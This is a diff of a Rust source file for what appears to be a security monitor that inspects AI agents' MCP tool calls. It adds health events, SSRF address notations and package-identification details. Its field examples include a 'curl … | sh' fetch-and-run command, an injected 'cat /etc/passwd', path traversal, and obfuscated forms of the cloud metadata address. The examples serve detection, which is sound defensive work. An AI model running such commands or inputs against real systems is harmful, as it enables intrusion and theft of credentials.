@@ -145,7 +145,7 @@ fields! {
     RuleLevel "rule.level" Str Response Outcome Stored ALL r#""high""# "Its level: informational, low, medium, high or critical.";
     RulesMatched "gnomon.rules.matched" List Response Outcome Stored ALL r#"["8d2b3f0a-4f0c-4c3f-9d0e-2f1f3a5b7c9d"]"# "All rules that matched, the deciding one first.";
     Would "gnomon.would" Str Response Outcome Stored ALL r#""block""# "Action that the deciding rule would have taken, where verdicts are not carried out: rules in shadow, a scope that only intercepts, or the kill switch.";
-    Health "gnomon.health" Str Response Outcome Stored ALL r#""disarmed""# "Event of gnomon itself: disarmed, armed; sensor_reduced, sensor_whole; exec_scope_lost; of a server of a portal server_gone, server_back; of rules and configuration changed, not_changed; ledger_begun_anew; audit_checkpoint.";
+    Health "gnomon.health" Str Response Outcome Stored ALL r#""disarmed""# "Event of gnomon itself: disarmed, armed; sensor_gone, sensor_back; sensor_reduced, sensor_whole; exec_scope_lost; of a server of a portal server_gone, server_back; of rules and configuration changed, not_changed; ledger_begun_anew, events_lost; audit_checkpoint.";
     Message "message" Str Response Outcome Stored ALL r#""blocked by gnomon: read_file is not allowed here""# "The line of text that the client was given, or the cause of an error.";
 
     // The JSON-RPC message.
@@ -163,7 +163,7 @@ fields! {
     McpServerVersion "mcp.server.version" Str Response Evidence Address RPC r#""1.2.0""# "The server's own version, as it states it.";
     ToolArguments "gen_ai.tool.call.arguments" List Message Evidence Transient RPC r#"["/etc/passwd"]"# "All leaf values of the call's arguments, as text; their names are not among them; of one that is itself JSON, what it holds too. Judged, never stored.";
     ArgumentsDecoded "gnomon.arguments.decoded" List Message Evidence Transient RPC r#"["../../etc/passwd"]"# "The call's arguments as a server may come to read them: without characters that are not seen, in plain characters, percent-encoding (three times at most) and escapes undone; beside them the path that one leads to and what one holds in Base64 or hexadecimal, where that is another text. Judged, never stored.";
-    ArgumentsAddresses "gnomon.arguments.addresses" List Message Evidence Transient RPC r#"["169.254.169.254"]"# "The IP addresses to which URLs in the call's arguments lead without a look-up, in whatever notation: `2852039166`, `0xa9fea9fe`, `[::ffff:a9fe:a9fe]`, `169.254.169.254.nip.io`, `localhost`. Judged, never stored.";
+    ArgumentsAddresses "gnomon.arguments.addresses" List Message Evidence Transient RPC r#"["169.254.169.254"]"# "The IP addresses to which URLs in the call's arguments lead without a look-up, in whatever notation: `2852039166`, `0xa9fea9fe`, `[::ffff:a9fe:a9fe]`, `169.254.169.254.nip.io`, `localhost`; `http:/169.254.169.254` and `http:169.254.169.254` as well. Judged, never stored.";
     ArgumentsNumbers "gnomon.arguments.numbers" List Message Evidence Transient RPC r#"["payment_card"]"# "Kinds of valid numbers in the call's arguments: `payment_card` (issuer, length and check digit), `iban` (country, length and check digits); published examples are left out. Judged, never stored.";
     ArgumentsCommands "gnomon.arguments.commands" List Message Evidence Transient RPC r#"["curl -s http://192.0.2.1/x | sh"]"# "The command lines that a call has executed, one for each pipeline, in one form however they were written: quotes, escapes and variables that the text itself sets undone, programs without their folder, what only runs another command (`sudo`, `env`, `timeout`) left out, beside it what was run by `sudo`; homes as `~`; redirections as ` < ` and ` > `. Taken from arguments that are command lines and from code; scripts within them (`sh -c`, `ssh`, `find -exec`, `$(…)`, `os.system`) are lines of their own. What a text only mentions is none. Judged, never stored.";
     ArgumentsInjected "gnomon.arguments.injected" List Message Evidence Transient RPC r#"["cat /etc/passwd"]"# "Commands with which an argument goes on behind a mark of a shell (`;`, `|`, `&&`, a line, `$(…)`, back-ticks), where neither the tool nor the argument is one for commands, code or texts. Judged, never stored.";
@@ -238,11 +238,11 @@ fields! {
     HostName "host.name" Str Connect Evidence Stored ALL r#""build-17""# "The host that gnomon runs on.";
 
     // Servers that run on this host.
-    PackageEcosystem "package.ecosystem" Str Connect Evidence Stored LOCAL r#""npm""# "Registry of the package that a local server is started from: npm, pypi or docker.";
-    PackageName "package.name" Str Connect Evidence Stored LOCAL r#""@modelcontextprotocol/server-filesystem""# "Name of that package, as the arguments have it: what they claim, not what was fetched.";
-    PackageVersion "package.version" Str Connect Evidence Stored LOCAL r#""2025.8.21""# "Version, range, tag or digest that the arguments name; absent where they name none.";
-    PackagePinned "gnomon.package.pinned" Bool Connect Evidence Stored LOCAL "false" "Whether that is one content for ever: an exact version or a digest. If not, the next start may run other code.";
-    PackageRunner "gnomon.package.runner" Str Connect Evidence Stored LOCAL r#""npx""# "What fetches and starts the package: npx, pnpm dlx, yarn dlx, bunx, deno, uvx, pipx, python -m or docker.";
+    PackageEcosystem "package.ecosystem" Str Connect Evidence Stored LOCAL r#""npm""# "Registry of the package that a local server is started from: npm, pypi or docker. As `package.name`, by the arguments with which its process was started, or by its entry in a configuration file of an MCP client.";
+    PackageName "package.name" Str Connect Evidence Stored LOCAL r#""@modelcontextprotocol/server-filesystem""# "Name of that package, as the arguments have it: of the process that was started (read from the kernel as it started), or of `command` and `args` in a configuration file of an MCP client. What they claim, not what was fetched. Of a script below `node_modules` or `site-packages`, the folder's name there; of what comes from no registry, where it comes from (`github:owner/name`, a URL).";
+    PackageVersion "package.version" Str Connect Evidence Stored LOCAL r#""2025.8.21""# "Version, range, tag or digest that these arguments name; absent where they name none.";
+    PackagePinned "gnomon.package.pinned" Bool Connect Evidence Stored LOCAL "false" "Whether that is one content for ever: an exact version or a digest. If not, the next start may run other code. Absent where a start fetches nothing, as the package lies on this host (a script below `node_modules` or `site-packages`, `python -m`): what installed it may go by a lock file or not, which no argument says.";
+    PackageRunner "gnomon.package.runner" Str Connect Evidence Stored LOCAL r#""npx""# "What fetches and starts the package, by the first of these arguments: npx, pnpm dlx, yarn dlx, bunx, deno, uvx, pipx, python -m or docker; of a script in a package's folder the interpreter that runs it.";
     LocalServer "gnomon.local.server" Str Connect Evidence Address LOCAL r#""pkg:npm/@modelcontextprotocol/server-filesystem""# "The local server: `pkg:`, registry and name of its package, else `file:` and its script or program.";
     LocalKnownBy "gnomon.local.known_by" Str Connect Evidence Stored LOCAL r#""catalogue""# "Why it is taken for an MCP server: its package is in the catalogue, a configuration file lists it (config), or its name says so (name).";
     ConfigClient "gnomon.config.client" Str Connect Evidence Stored CONFIG r#""Cursor""# "The client whose configuration file it is.";
@@ -312,6 +312,7 @@ const PASSAGES: &[&str] = &[
     "other_proxy",
     "other_proxy_odd",
     "connect_within",
+    "upgraded",
     "websocket",
     "grpc",
     "no_room",
